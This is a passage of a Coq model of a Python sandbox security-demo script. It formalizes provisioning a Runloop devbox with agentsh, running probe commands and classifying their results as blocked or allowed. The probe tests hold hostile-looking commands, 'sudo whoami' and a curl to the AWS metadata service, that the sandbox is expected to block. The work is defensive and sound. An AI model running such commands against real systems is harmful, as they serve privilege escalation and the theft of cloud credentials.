       else devboxes_execute_sync world_ok h id command_ timeout)
    world_ok.

(** [world_ok], except that [shutdown] raises. *)
Definition world_shutdown_fails : World :=
  with_shutdown (fun _ _ => Raises (Exception "503 Service Unavailable"))
    world_ok.


Definition world_build_failed_B : World :=
  with_failed_build "bpt_B" (Raises (Exception "logs unavailable")) world_ok.

Definition sudo_test : Test :=
  mkTest "Block sudo" "sudo whoami 2>&1" "blocked"
    "Prevent privilege escalation via sudo".

Definition aws_test : Test :=
  mkTest "Block AWS metadata service"
    "curl -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/ 2>&1"
    "blocked" "Prevent SSRF to AWS instance metadata".

Definition echo_test : Test :=
  mkTest "Basic echo" "echo 'Hello from agentsh sandbox'" "success"
    "Basic shell command".

(** Exit status 0 and 200 characters of other text before the word
    "blocked". *)
Definition late_blocked : ExecutionResult :=
  mkResult 0 (Some (PyStr.repeat_char "x" 200 ++ "blocked")) None.

(** Exit status 0 and an HTML error page whose "Access Denied" comes after
    more than 200 characters. *)
Definition late_denied : ExecutionResult :=
  mkResult 0
    (Some ("<html><head><title>Error</title></head><body>"
           ++ PyStr.repeat_char "-" 180 ++ "<h1>Access Denied</h1></body></html>"))
    (Some "").

End Samples.

(* ===================================================================== *)
(** * What each phase of [main] guarantees *)
(* ===================================================================== *)

Module Specs.
Import Trace.

(** An event from before the devbox exists: no probe, no shutdown, no
    devbox poll. *)
Definition before_devbox (ev : event) : Prop :=
  setup_event ev /\ is_devbox_poll ev = false.

(** A provisioning phase: it only adds setup events, and it returns
    exactly when the latest poll of the devbox it returns said
    ["running"]; otherwise no poll ever said so. *)
Definition provisioned {A} (id_of : A -> string)
    (r : outcome A) (E : trace) : Prop :=
  Forall setup_event E
  /\ match r with
     | Done a => last_poll E = Some (id_of a, Returns "running")
     | _ => ~ reached_running E
     end.

(** One probe: prints, one [execute_sync] of the test's command on the
    devbox, prints; the outcome follows from the answer. *)
Definition probed (id : string) (test : Test) (results : Run.Results)
    (r : outcome Run.Results) (E : trace) : Prop :=
  exists a pre post,
    E = (pre ++ EvExecuteSync id (command test) 30 a :: post)%list
    /\ Forall (fun ev => is_print ev = true) pre
    /\ Forall (fun ev => is_print ev = true) post
    /\ r = probe_outcome test results a.

(** An [execute_sync] whose exception, if any, the handlers of lines
    346-353 catch. *)
Definition recovered (ev : event) : Prop :=
  match ev with
  | EvExecuteSync _ _ _ (Raises e) => is_Exception e = true
  | _ => True
  end.

(** A loop over the tests [ts] that starts with the counters [results]. *)
Definition looped (id : string) (ts : list Test) (results : Run.Results)
    (r : outcome Run.Results) (E : trace) : Prop :=
  Forall (probe_event id) E
  /\ r <> OutOfFuel
  /\ (forall results', r = Done results' ->
        exists vs,
          List.length vs = List.length ts
          /\ results' = fold_left (fun rs v => Run.incr v rs) vs results
          /\ count is_execute E = List.length ts)
  /\ (Forall recovered E -> exists results', r = Done results').

(** The whole run: either provisioning did not return, or the probes
    ran on the devbox that was seen running and the [finally] block
    followed. *)
Definition ran (catalog : Catalog) (r : outcome Run.Results) (E : trace)
  : Prop :=
  (Forall setup_event E /\ ~ reached_running E /\ forall x, r <> Done x)
  \/ exists id E1 E2 r2 a,
       E = (E1 ++ E2 ++ cleanup_events id a)%list
       /\ Forall setup_event E1
       /\ last_poll E1 = Some (id, Returns "running")
       /\ looped id (all_tests catalog) (Run.mkResults 0 0 0) r2 E2
       /\ r = match a with Returns _ => r2 | Raises e => Raise e end.




(** [m'] does what [m] does wherever [m] does not run out of fuel. *)
Definition settles {A} (m m' : M A) : Prop :=
  forall h, fst (m h) <> OutOfFuel -> m' h = m h.

End Specs.
(* ===================================================================== *)
(** * The paths through [main], as outcomes with their events *)
(* ===================================================================== *)

(** Each relation lists the ways one part of the script can go: what it
    returns or raises, and the events it adds, whatever the world
    answers. *)
Module Paths.
Import Trace.

Definition all_prints (E : trace) : Prop :=
  Forall (fun ev => is_print ev = true) E.

(** Lines 226-230: the [file_mounts] argument. *)
Definition file_mounts (default_yaml config_yaml : string)
  : list (string * string) :=
  [ ("/tmp/agentsh-config/default.yaml", default_yaml);
    ("/tmp/agentsh-config/config.yaml", config_yaml) ].

(** Lines 233-237: the [launch_commands] of [launch_parameters]. *)
Definition launch_commands : list string :=
  [ "sudo cp /tmp/agentsh-config/config.yaml /etc/agentsh/config.yaml";
    "sudo cp /tmp/agentsh-config/default.yaml /etc/agentsh/policies/default.yaml";
    "sudo agentsh shim install-shell --root / --shim /usr/bin/agentsh-shell-shim --bash --i-understand-this-modifies-the-host" ].

(** Lines 192-202. *)
Inductive prerequisites_checked : outcome unit -> trace -> Prop :=
| pc_no_key :
    prerequisites_checked (Raise (SystemExit 1))
      [ EvPrint "Error: RUNLOOP_API_KEY environment variable not set";
        EvPrint "Get your API key from https://app.runloop.ai" ]
| pc_no_client :
    prerequisites_checked (Raise (SystemExit 1))
      [ EvPrint "Error: runloop-api-client not installed";
        EvPrint "Run: pip install runloop-api-client" ]
| pc_met : prerequisites_checked (Done tt) [].

(** What line 259 or the log retrieval before it raises, from the answer
    of [blueprints.logs]. *)
Definition build_failure (logs : answer string) : exn :=
  match logs with
  | Returns _ => Exception "Blueprint build failed"
  | Raises e => if is_Exception e then Exception "Blueprint build failed" else e
  end.

(** Line 256, printed when the logs came. *)
Definition logs_shown (logs : answer string) : trace :=
  match logs with
  | Returns text => [ EvPrint ("    Build logs: " ++ text) ]
  | Raises _ => []
  end.

(** Lines 244-261 with at most [n] polls of blueprint [id]. *)
Inductive blueprint_waited (id : string) : nat -> outcome unit -> trace -> Prop :=
| bw_more_polls : blueprint_waited id 0 OutOfFuel []
| bw_poll_raised n e :
    blueprint_waited id (S n) (Raise e) [ EvBlueprintsRetrieve id (Raises e) ]
| bw_complete n :
    blueprint_waited id (S n) (Done tt)
      [ EvBlueprintsRetrieve id (Returns "build_complete");
        EvPrint "    Status: build_complete";
        EvPrint "    Blueprint build complete!" ]
| bw_failed n logs :
    blueprint_waited id (S n) (Raise (build_failure logs))
      (EvBlueprintsRetrieve id (Returns "build_failed")
       :: EvPrint "    Status: build_failed"
       :: EvBlueprintsLogs id logs
       :: logs_shown logs)
| bw_again n status r E :
    status <> "build_complete" ->
    status <> "build_failed" ->
    blueprint_waited id n r E ->
    blueprint_waited id (S n) r
      (EvBlueprintsRetrieve id (Returns status)
       :: EvPrint ("    Status: " ++ status)
       :: EvSleep 5
       :: E).

(** The events of lines 220-243 when [blueprints.create] answers [a]. *)
Definition blueprint_requested (dockerfile default_yaml config_yaml : string)
    (a : answer string) : trace :=
  ([ EvPrint (Run.nl ++ "[1] Creating Blueprint with agentsh...");
     EvPrint "    This may take a few minutes on first run (building image)";
     EvBlueprintsCreate "agentsh-sandbox" dockerfile
       (file_mounts default_yaml config_yaml) launch_commands a ]
   ++ match a with
      | Returns id =>
          [ EvPrint ("    Blueprint ID: " ++ id);
            EvPrint "    Waiting for build to complete..." ]
      | Raises _ => []
      end)%list.

(** Lines 220-261. *)
Inductive blueprint_created (fuel : nat)
    (dockerfile default_yaml config_yaml : string)
  : outcome string -> trace -> Prop :=
| bc_create_raised e :
    blueprint_created fuel dockerfile default_yaml config_yaml (Raise e)
      (blueprint_requested dockerfile default_yaml config_yaml (Raises e))
| bc_built id E :
    blueprint_waited id fuel (Done tt) E ->
    blueprint_created fuel dockerfile default_yaml config_yaml (Done id)
      (blueprint_requested dockerfile default_yaml config_yaml (Returns id) ++ E)%list
| bc_not_built id e E :
    blueprint_waited id fuel (Raise e) E ->
    blueprint_created fuel dockerfile default_yaml config_yaml (Raise e)
      (blueprint_requested dockerfile default_yaml config_yaml (Returns id) ++ E)%list
| bc_more_polls id E :
    blueprint_waited id fuel OutOfFuel E ->
    blueprint_created fuel dockerfile default_yaml config_yaml OutOfFuel
      (blueprint_requested dockerfile default_yaml config_yaml (Returns id) ++ E)%list.

(** Lines 273-283 with at most [n] polls of devbox [id]. *)
Inductive devbox_waited (id : string) : nat -> outcome unit -> trace -> Prop :=
| dw_more_polls : devbox_waited id 0 OutOfFuel []
| dw_poll_raised n e :
    devbox_waited id (S n) (Raise e) [ EvDevboxesRetrieve id (Raises e) ]
| dw_running n :
    devbox_waited id (S n) (Done tt)
      [ EvDevboxesRetrieve id (Returns "running");
        EvPrint "    Devbox is running!" ]
| dw_failed n status :
    status = "failed" \/ status = "shutdown" ->
    devbox_waited id (S n)
      (Raise (Exception ("Devbox failed to start: " ++ status)))
      [ EvDevboxesRetrieve id (Returns status) ]
| dw_again n status r E :
    status <> "running" ->
    status <> "failed" ->
    status <> "shutdown" ->
    devbox_waited id n r E ->
    devbox_waited id (S n) r
      (EvDevboxesRetrieve id (Returns status) :: EvSleep 2 :: E).

(** The events of lines 266-272 when [devboxes.create] answers [a]. *)
Definition devbox_requested (blueprint_id : string) (a : answer string)
  : trace :=
  ([ EvPrint (Run.nl ++ "[2] Creating Devbox from Blueprint...");
     EvDevboxesCreate blueprint_id a ]
   ++ match a with
      | Returns id =>
          [ EvPrint ("    Devbox ID: " ++ id);
            EvPrint "    Waiting for Devbox to be ready..." ]
      | Raises _ => []
      end)%list.

(** Lines 286-287. *)
Definition daemon_awaited : trace :=
  [ EvPrint "    Waiting for agentsh daemon to initialize..."; EvSleep 10 ].

(** Lines 266-287. *)
Inductive devbox_created (fuel : nat) (blueprint_id : string)
  : outcome string -> trace -> Prop :=
| dc_create_raised e :
    devbox_created fuel blueprint_id (Raise e)
      (devbox_requested blueprint_id (Raises e))
| dc_started id E :
    devbox_waited id fuel (Done tt) E ->
    devbox_created fuel blueprint_id (Done id)
      (devbox_requested blueprint_id (Returns id) ++ E ++ daemon_awaited)%list
| dc_not_started id e E :
    devbox_waited id fuel (Raise e) E ->
    devbox_created fuel blueprint_id (Raise e)
      (devbox_requested blueprint_id (Returns id) ++ E)%list
| dc_more_polls id E :
    devbox_waited id fuel OutOfFuel E ->
    devbox_created fuel blueprint_id OutOfFuel
      (devbox_requested blueprint_id (Returns id) ++ E)%list.

(** Lines 204-206. *)
Definition banner : trace :=
  [ EvPrint Run.rule; EvPrint "  agentsh + Runloop Security Demo";
    EvPrint Run.rule ].

(** Lines 210-212 when the three files are read. *)
Definition files_read (dockerfile default_yaml config_yaml : string) : trace :=
  [ EvReadText "Dockerfile" (Returns dockerfile);
    EvReadText "default.yaml" (Returns default_yaml);
    EvReadText "config.yaml" (Returns config_yaml) ].

(** Lines 192-287. *)
Inductive provisioned_run (fuel : nat) : outcome string -> trace -> Prop :=
| pv_unmet E :
    prerequisites_checked (Raise (SystemExit 1)) E ->
    provisioned_run fuel (Raise (SystemExit 1)) E
| pv_no_dockerfile e :
    provisioned_run fuel (Raise e)
      (banner ++ [ EvReadText "Dockerfile" (Raises e) ])%list
| pv_no_default_yaml dockerfile e :
    provisioned_run fuel (Raise e)
      (banner ++ [ EvReadText "Dockerfile" (Returns dockerfile);
                   EvReadText "default.yaml" (Raises e) ])%list
| pv_no_config_yaml dockerfile default_yaml e :
    provisioned_run fuel (Raise e)
      (banner ++ [ EvReadText "Dockerfile" (Returns dockerfile);
                   EvReadText "default.yaml" (Returns default_yaml);
                   EvReadText "config.yaml" (Raises e) ])%list
| pv_no_blueprint dockerfile default_yaml config_yaml e E :
    blueprint_created fuel dockerfile default_yaml config_yaml (Raise e) E ->
    provisioned_run fuel (Raise e)
      (banner ++ files_read dockerfile default_yaml config_yaml ++ E)%list
| pv_blueprint_more_polls dockerfile default_yaml config_yaml E :
    blueprint_created fuel dockerfile default_yaml config_yaml OutOfFuel E ->
    provisioned_run fuel OutOfFuel
      (banner ++ files_read dockerfile default_yaml config_yaml ++ E)%list
| pv_devbox dockerfile default_yaml config_yaml blueprint_id E1 r E2 :
    blueprint_created fuel dockerfile default_yaml config_yaml
      (Done blueprint_id) E1 ->
    devbox_created fuel blueprint_id r E2 ->
    provisioned_run fuel r
      (banner ++ files_read dockerfile default_yaml config_yaml ++ E1 ++ E2)%list.

(** Lines 295-353 over the tests [ts] on devbox [id], from the counters
    [results]; the prints between the calls are left open. *)
Inductive probes (id : string)
  : list Test -> Run.Results -> outcome Run.Results -> trace -> Prop :=
| probes_end results P :
    all_prints P ->
    probes id [] results (Done results) P
| probes_step t ts results a results' r P Q E :
    all_prints P ->
    all_prints Q ->
    probe_outcome t results a = Done results' ->
    probes id ts results' r E ->
    probes id (t :: ts) results r
      (P ++ EvExecuteSync id (command t) 30 a :: Q ++ E)%list
| probes_abort t ts results e P :
    all_prints P ->
    is_Exception e = false ->
    probes id (t :: ts) results (Raise e)
      (P ++ [ EvExecuteSync id (command t) 30 (Raises e) ])%list.

(** Lines 358-389. *)
Definition summary (results : Run.Results) : trace :=
  [ EvPrint (Run.nl ++ Run.rule); EvPrint "  SUMMARY"; EvPrint Run.rule;
    EvPrint (Run.summary_text results) ].

(** Lines 293-389: the body of the outer [try]. *)
Inductive tested (catalog : Catalog) (id : string)
  : outcome Run.Results -> trace -> Prop :=
| ts_summarised results E :
    probes id (all_tests catalog) (Run.mkResults 0 0 0) (Done results) E ->
    tested catalog id (Done results) (E ++ summary results)%list
| ts_aborted e E :
    probes id (all_tests catalog) (Run.mkResults 0 0 0) (Raise e) E ->
    tested catalog id (Raise e) E.

(** Lines 192-397. *)
Inductive main_run (catalog : Catalog) (fuel : nat)
  : outcome Run.Results -> trace -> Prop :=
| mr_not_provisioned e E :
    provisioned_run fuel (Raise e) E ->
    main_run catalog fuel (Raise e) E
| mr_more_polls E :
    provisioned_run fuel OutOfFuel E ->
    main_run catalog fuel OutOfFuel E
| mr_tested id E1 r E2 a :
    provisioned_run fuel (Done id) E1 ->
    tested catalog id r E2 ->
    main_run catalog fuel
      (match a with Returns _ => r | Raises e => Raise e end)
      (E1 ++ E2 ++ cleanup_events id a)%list.

End Paths.

(* ===================================================================== *)
(** * More ways to read a trace *)
(* ===================================================================== *)

Module Events.
Import Trace.

Definition is_read (ev : event) : bool :=
  match ev with EvReadText _ _ => true | _ => false end.

(** A file read that raised. *)
Definition is_failed_read (ev : event) : bool :=
  match ev with EvReadText _ (Raises _) => true | _ => false end.

Definition is_blueprint_create (ev : event) : bool :=
  match ev with EvBlueprintsCreate _ _ _ _ _ => true | _ => false end.

Definition is_devbox_create (ev : event) : bool :=
  match ev with EvDevboxesCreate _ _ => true | _ => false end.

(** A call to the Runloop service: everything but output, pauses and
    file reads. *)
Definition is_remote (ev : event) : bool :=
  match ev with
  | EvPrint _ | EvSleep _ | EvReadText _ _ => false
  | _ => true
  end.

(** A pause of the given number of seconds. *)
Definition is_pause (seconds : Z) (ev : event) : bool :=
  match ev with EvSleep s => (s =? seconds)%Z | _ => false end.

(** An [execute_sync] that raised. *)
Definition is_raised (ev : event) : bool :=
  match ev with EvExecuteSync _ _ _ (Raises _) => true | _ => false end.

(** The commands sent to a devbox, in the order of the calls. *)
Definition commands_sent (tr : trace) : list string :=
  flat_map (fun ev =>
              match ev with
              | EvExecuteSync _ command_ _ _ => [command_]
              | _ => []
              end) tr.

(** The answers of [execute_sync], in the order of the calls. *)
Definition answers (tr : trace) : list (answer ExecutionResult) :=
  flat_map (fun ev =>
              match ev with
              | EvExecuteSync _ _ _ a => [a]
              | _ => []
              end) tr.

(** The call for a test returned a result on which the value of [passed]
    is [want]. *)
Definition scored (want : bool) (ta : Test * answer ExecutionResult) : bool :=
  match snd ta with
  | Returns result => Bool.eqb (Classifier.passed (fst ta) result) want
  | Raises _ => false
  end.

(** The exception that a call of the provisioning part raised: a file
    read, [blueprints.create], [blueprints.retrieve], [devboxes.create]
    or [devboxes.retrieve]. *)
Definition provisioning_error (ev : event) : option exn :=
  match ev with
  | EvReadText _ (Raises e)
  | EvBlueprintsCreate _ _ _ _ (Raises e)
  | EvBlueprintsRetrieve _ (Raises e)
  | EvDevboxesCreate _ (Raises e)
  | EvDevboxesRetrieve _ (Raises e) => Some e
  | _ => None
  end.

Definition is_provisioning_error (ev : event) : bool :=
  match provisioning_error ev with Some _ => true | None => false end.

(** The word of the "Result:" line for each counter (lines 339, 348,
    352). *)
Definition label (v : Verdict) : string :=
  match v with
  | Passed => "PASS"
  | Failed => "FAIL"
  | Errored => "ERROR"
  end.

(** The devbox that a call is about. *)
Definition devbox_of (ev : event) : option string :=
  match ev with
  | EvDevboxesRetrieve id _ | EvExecuteSync id _ _ _ | EvShutdown id _ => Some id
  | _ => None
  end.

(** The blueprint that a call is about. *)
Definition blueprint_of (ev : event) : option string :=
  match ev with
  | EvBlueprintsRetrieve id _ | EvBlueprintsLogs id _ | EvDevboxesCreate id _ =>
      Some id
  | _ => None
  end.

(** The blueprint and the answer of the latest [blueprints.retrieve]. *)
Fixpoint last_blueprint_poll (tr : trace) : option (string * answer string) :=
  match tr with
  | [] => None
  | ev :: tr' =>
      match last_blueprint_poll tr' with
      | Some p => Some p
      | None =>
          match ev with
          | EvBlueprintsRetrieve id a => Some (id, a)
          | _ => None
          end
      end
  end.

End Events.

(* ===================================================================== *)
(** * More sample worlds *)
(* ===================================================================== *)

Module MoreSamples.
Import Samples.



Definition with_read_text (f : trace -> string -> answer string) (w : World)
  : World :=
  mkWorld (environ_get w) (client_importable w) f
    (blueprints_create w) (blueprints_retrieve w) (blueprints_logs w)
    (devboxes_create w) (devboxes_retrieve w) (devboxes_execute_sync w)
    (devboxes_shutdown w).

Definition with_blueprints_retrieve (f : trace -> string -> answer string)
    (w : World) : World :=
  mkWorld (environ_get w) (client_importable w) (read_text w)
    (blueprints_create w) f (blueprints_logs w)
    (devboxes_create w) (devboxes_retrieve w) (devboxes_execute_sync w)
    (devboxes_shutdown w).

Definition with_devboxes_retrieve (f : trace -> string -> answer string)
    (w : World) : World :=
  mkWorld (environ_get w) (client_importable w) (read_text w)
    (blueprints_create w) (blueprints_retrieve w) (blueprints_logs w)
    (devboxes_create w) f (devboxes_execute_sync w)
    (devboxes_shutdown w).



(** [config.yaml] is missing beside the script. *)
Definition world_no_config : World :=
  with_read_text
    (fun _ file =>
       if String.eqb file "config.yaml"
       then Raises (Exception "[Errno 2] No such file or directory: 'config.yaml'")
       else Returns ("# " ++ file))
    world_ok.

(** Every poll of the blueprint fails with a server error. *)
Definition world_poll_fails : World :=
  with_blueprints_retrieve
    (fun _ _ => Raises (Exception "503 Service Unavailable")) world_ok.

(** The build never leaves the status ["building"]. *)
Definition world_build_stuck : World :=
  with_blueprints_retrieve (fun _ _ => Returns "building") world_ok.

(** The devbox never leaves the status ["provisioning"]. *)
Definition world_devbox_stuck : World :=
  with_devboxes_retrieve (fun _ _ => Returns "provisioning") world_ok.

(** The devbox is reported ["failed"] at the second poll. *)
Definition world_devbox_failed : World :=
  with_devboxes_retrieve
    (fun h _ =>
       if (Trace.count Trace.is_devbox_poll h =? 0)%nat
       then Returns "provisioning" else Returns "failed")
    world_ok.



(** Exit status 0 and a short refusal. *)
Definition denied_result : ExecutionResult :=
  mkResult 0 None (Some "sudo: Permission denied").

End MoreSamples.

(* ===================================================================== *)
(** * [main] when [print] and [asyncio.sleep] can raise *)
(* ===================================================================== *)

(** Standard output and the event loop as the script meets them.  A
    [print] raises when the write fails ([BrokenPipeError], or
    [UnicodeEncodeError] on text that came from the devbox), and
    [await asyncio.sleep] raises when the task is cancelled or
    interrupted.  Both see the events so far. *)
Record Console : Type := mkConsole {
  print_answer : trace -> string -> answer unit;
  sleep_answer : trace -> Z -> answer unit
}.

(** [m] with its exception handed over as a value: a statement of a
    [try] block, seen from the handlers. *)
Definition attempt {A} (m : M A) : M (answer A) :=
  fun h =>
    let '(r, e1) := m h in
    (match r with
     | Done a => Done (Returns a)
     | Raise e => Done (Raises e)
     | OutOfFuel => OutOfFuel
     end, e1).

(** The script of [Run], line by line, with every [print] and every
    [asyncio.sleep] answered by a [Console].  [Run] is this script on a
    console that never raises. *)
Module Full.
Import PyStr Run.
Local Open Scope py_scope.

Section Script.
Variable c : Console.
Variable w : World.

(** [print(text)].  [EvPrint text] records a line that was written; a
    [print] that raises leaves no event. *)
Definition print (text : string) : M unit :=
  fun h =>
    match print_answer c h text with
    | Returns _ => (Done tt, [EvPrint text])
    | Raises e => (Raise e, [])
    end.

(** [await asyncio.sleep(seconds)].  [EvSleep seconds] records a pause
    that ran to its end. *)
Definition sleep (seconds : Z) : M unit :=
  fun h =>
    match sleep_answer c h seconds with
    | Returns _ => (Done tt, [EvSleep seconds])
    | Raises e => (Raise e, [])
    end.

(** Lines 192-202. *)
Definition check_prerequisites : M unit :=
  (match environ_get w "RUNLOOP_API_KEY" with
   | None | Some EmptyString =>
       print "Error: RUNLOOP_API_KEY environment variable not set" ;;
       print "Get your API key from https://app.runloop.ai" ;;
       raise (SystemExit 1)
   | Some _ => ret tt
   end) ;;
  if client_importable w then ret tt
  else
    print "Error: runloop-api-client not installed" ;;
    print "Run: pip install runloop-api-client" ;;
    raise (SystemExit 1).

(** Lines 244-261.  The [print] of line 256 is inside the [try]: an
    exception of class [Exception] that it raises is swallowed like one
    of the log call. *)
Fixpoint wait_for_blueprint (fuel : nat) (blueprint_id : string) : M unit :=
  match fuel with
  | O => out_of_fuel
  | S fuel' =>
      status <- call (fun h => blueprints_retrieve w h blueprint_id)
                     (EvBlueprintsRetrieve blueprint_id) ;;
      print ("    Status: " ++ status) ;;
      if String.eqb status "build_complete" then
        print "    Blueprint build complete!"
      else if String.eqb status "build_failed" then
        try_except
          (logs <- call (fun h => blueprints_logs w h blueprint_id)
                        (EvBlueprintsLogs blueprint_id) ;;
           print ("    Build logs: " ++ logs))
          (fun e => if is_Exception e then ret tt else raise e) ;;
        raise (Exception "Blueprint build failed")
      else
        sleep 5 ;;
        wait_for_blueprint fuel' blueprint_id
  end.

(** Lines 220-261. *)
Definition create_blueprint (fuel : nat)
    (dockerfile default_yaml config_yaml : string) : M string :=
  print (nl ++ "[1] Creating Blueprint with agentsh...") ;;
  print "    This may take a few minutes on first run (building image)" ;;
  blueprint_id <-
    call (fun h =>
            blueprints_create w h "agentsh-sandbox" dockerfile
              [ ("/tmp/agentsh-config/default.yaml", default_yaml);
                ("/tmp/agentsh-config/config.yaml", config_yaml) ]
              [ "sudo cp /tmp/agentsh-config/config.yaml /etc/agentsh/config.yaml";
                "sudo cp /tmp/agentsh-config/default.yaml /etc/agentsh/policies/default.yaml";
                "sudo agentsh shim install-shell --root / --shim /usr/bin/agentsh-shell-shim --bash --i-understand-this-modifies-the-host" ])
         (EvBlueprintsCreate "agentsh-sandbox" dockerfile
              [ ("/tmp/agentsh-config/default.yaml", default_yaml);
                ("/tmp/agentsh-config/config.yaml", config_yaml) ]
              [ "sudo cp /tmp/agentsh-config/config.yaml /etc/agentsh/config.yaml";
                "sudo cp /tmp/agentsh-config/default.yaml /etc/agentsh/policies/default.yaml";
                "sudo agentsh shim install-shell --root / --shim /usr/bin/agentsh-shell-shim --bash --i-understand-this-modifies-the-host" ]) ;;
  print ("    Blueprint ID: " ++ blueprint_id) ;;
  print "    Waiting for build to complete..." ;;
  wait_for_blueprint fuel blueprint_id ;;
  ret blueprint_id.

(** Lines 273-283. *)
Fixpoint wait_for_devbox (fuel : nat) (devbox_id : string) : M unit :=
  match fuel with
  | O => out_of_fuel
  | S fuel' =>
      status <- call (fun h => devboxes_retrieve w h devbox_id)
                     (EvDevboxesRetrieve devbox_id) ;;
      if String.eqb status "running" then
        print "    Devbox is running!"
      else if String.eqb status "failed" || String.eqb status "shutdown" then
        raise (Exception ("Devbox failed to start: " ++ status))
      else
        sleep 2 ;;
        wait_for_devbox fuel' devbox_id
  end.

(** Lines 266-287.  The two prints and the pause that follow the poll
    answered ["running"] come before the [try] of line 292. *)
Definition create_devbox (fuel : nat) (blueprint_id : string) : M string :=
  print (nl ++ "[2] Creating Devbox from Blueprint...") ;;
  devbox_id <- call (fun h => devboxes_create w h blueprint_id)
                    (EvDevboxesCreate blueprint_id) ;;
  print ("    Devbox ID: " ++ devbox_id) ;;
  print "    Waiting for Devbox to be ready..." ;;
  wait_for_devbox fuel devbox_id ;;
  print "    Waiting for agentsh daemon to initialize..." ;;
  sleep 10 ;;
  ret devbox_id.

(** The two [except] clauses of lines 346-353, acting on the dict
    [results] as the [try] block left it. *)
Definition on_error (results : Results) (e : exn) : M Results :=
  match e with
  | TimeoutError =>
      print "       Error: Command timed out" ;;
      print "       Result: [ERROR]" ;;
      ret (incr Errored results)
  | Exception msg =>
      print ("       Error: " ++ msg) ;;
      print "       Result: [ERROR]" ;;
      ret (incr Errored results)
  | _ => raise e
  end.

(** Lines 302-353: the body of the inner [for] loop.  Two statements of
    the [try] block can raise: the call of line 307, before the dict is
    touched, and the prints of lines 342-344, after line 340 has
    incremented it.  The handlers run on the dict of that moment. *)
Definition run_test (devbox_id : string) (test : Test) (results : Results)
  : M Results :=
  print (nl ++ "[TEST] " ++ name test) ;;
  print ("       " ++ description test) ;;
  print ("       Command: " ++ take 60 (command test)
         ++ (if (60 <? String.length (command test))%nat then "..." else "")) ;;
  a <- attempt
         (call (fun h => devboxes_execute_sync w h devbox_id (command test) 30)
               (EvExecuteSync devbox_id (command test) 30)) ;;
  match a with
  | Raises e => on_error results e
  | Returns result =>
      let output := Classifier.output result in
      let exit_code := exit_status result in
      let passed := Classifier.passed_on (expect test) output exit_code in
      let status := if passed then "PASS" else "FAIL" in
      let results := incr (if passed then Passed else Failed) results in
      try_except
        (print ("       Output: "
                ++ (if String.eqb output "" then "(no output)" else output)) ;;
         print ("       Exit code: " ++ str_of_int exit_code) ;;
         print ("       Result: [" ++ status ++ "]") ;;
         ret results)
        (on_error results)
  end.

(** Lines 301-353. *)
Fixpoint run_tests (devbox_id : string) (ts : list Test) (results : Results)
  : M Results :=
  match ts with
  | [] => ret results
  | test :: ts' =>
      results <- run_test devbox_id test results ;;
      run_tests devbox_id ts' results
  end.

(** Lines 295-353. *)
Fixpoint run_categories (devbox_id : string) (catalog : Catalog)
    (results : Results) : M Results :=
  match catalog with
  | [] => ret results
  | (category_key, category) :: catalog' =>
      print (nl ++ rule) ;;
      print ("  " ++ title category) ;;
      print ("  " ++ cat_description category) ;;
      print rule ;;
      results <- run_tests devbox_id (tests category) results ;;
      run_categories devbox_id catalog' results
  end.

(** Lines 293-389: the body of the outer [try]. *)
Definition security_tests (catalog : Catalog) (devbox_id : string) : M Results :=
  let results := mkResults 0 0 0 in
  results <- run_categories devbox_id catalog results ;;
  print (nl ++ rule) ;;
  print "  SUMMARY" ;;
  print rule ;;
  print (summary_text results) ;;
  ret results.

(** The line that opens the [finally] block (line 395). *)
Definition cleanup_banner : string := nl ++ "[CLEANUP] Shutting down Devbox...".

(** Lines 395-397: the [finally] block.  The [shutdown] of line 396
    comes after the [print] of line 395. *)
Definition cleanup (devbox_id : string) : M unit :=
  print cleanup_banner ;;
  call (fun h => devboxes_shutdown w h devbox_id) (EvShutdown devbox_id) ;;
  print ("    Devbox " ++ devbox_id ++ " shut down.").

(** Lines 192-287: everything before the outer [try]. *)
Definition provision (fuel : nat) : M string :=
  check_prerequisites ;;
  print rule ;;
  print "  agentsh + Runloop Security Demo" ;;
  print rule ;;
  dockerfile <- read_file w "Dockerfile" ;;
  default_yaml <- read_file w "default.yaml" ;;
  config_yaml <- read_file w "config.yaml" ;;
  blueprint_id <- create_blueprint fuel dockerfile default_yaml config_yaml ;;
  create_devbox fuel blueprint_id.

(** Lines 192-287, then the [try ... finally] of lines 292-397. *)
Definition main_on (catalog : Catalog) (fuel : nat) : M Results :=
  devbox_id <- provision fuel ;;
  try_finally (security_tests catalog devbox_id) (cleanup devbox_id).

(** [main()] of the script. *)
Definition main (fuel : nat) : M Results := main_on SECURITY_TESTS fuel.

End Script.

Definition run (c : Console) (w : World) (fuel : nat)
  : outcome Results * trace :=
  main c w fuel [].

Definition run_on (c : Console) (w : World) (catalog : Catalog) (fuel : nat)
  : outcome Results * trace :=
  main_on c w catalog fuel [].

(** No [print] and no [asyncio.sleep] raises. *)
Definition quiet (c : Console) : Prop :=
  (forall h text, print_answer c h text = Returns tt)
  /\ (forall h seconds, sleep_answer c h seconds = Returns tt).

(** The [try] of line 292 was entered: the pause of line 287, the last
    statement before it and the only pause of 10 seconds, ran to its
    end. *)
Definition try_entered (tr : trace) : Prop := In (EvSleep 10) tr.

End Full.

(** Sample consoles and worlds for them. *)
Module Consoles.
Import PyStr.

Definition quiet_console : Console :=
  mkConsole (fun _ _ => Returns tt) (fun _ _ => Returns tt).

Definition is_ascii (ch : ascii) : bool := (nat_of_ascii ch <? 128)%nat.

(** Standard output with the ASCII encoding (the C locale): a line with
    any other character raises [UnicodeEncodeError], a subclass of
    [ValueError] and so of [Exception]. *)
Definition console_ascii : Console :=
  mkConsole
    (fun _ text =>
       if all_chars is_ascii text then Returns tt
       else Raises (Exception "'ascii' codec can't encode character"))
    (fun _ _ => Returns tt).

(** The task is cancelled during the pause of line 287. *)
Definition console_cancelled : Console :=
  mkConsole
    (fun _ _ => Returns tt)
    (fun _ seconds =>
       if (seconds =? 10)%Z then Raises (BaseException "CancelledError")
       else Returns tt).

(** Writing the line "  SUMMARY" fails with [OSError]; every other line
    is written. *)
Definition console_summary_fails : Console :=
  mkConsole
    (fun _ text =>
       if String.eqb text "  SUMMARY"
       then Raises (Exception "[Errno 28] No space left on device")
       else Returns tt)
    (fun _ _ => Returns tt).

(** The reader of standard output goes away while the twentieth command
    runs: from then on every [print] raises [BrokenPipeError]. *)
Definition console_pipe_closed : Console :=
  mkConsole
    (fun h _ =>
       if (20 <=? Trace.count Trace.is_execute h)%nat
       then Raises (Exception "[Errno 32] Broken pipe")
       else Returns tt)
    (fun _ _ => Returns tt).

(** [world_ok], except that [ls -la /home] lists a directory whose name
    has the letter e with an acute accent (code point 233). *)
Definition world_accent : World :=
  Samples.with_execute_sync
    (fun h id command_ timeout =>
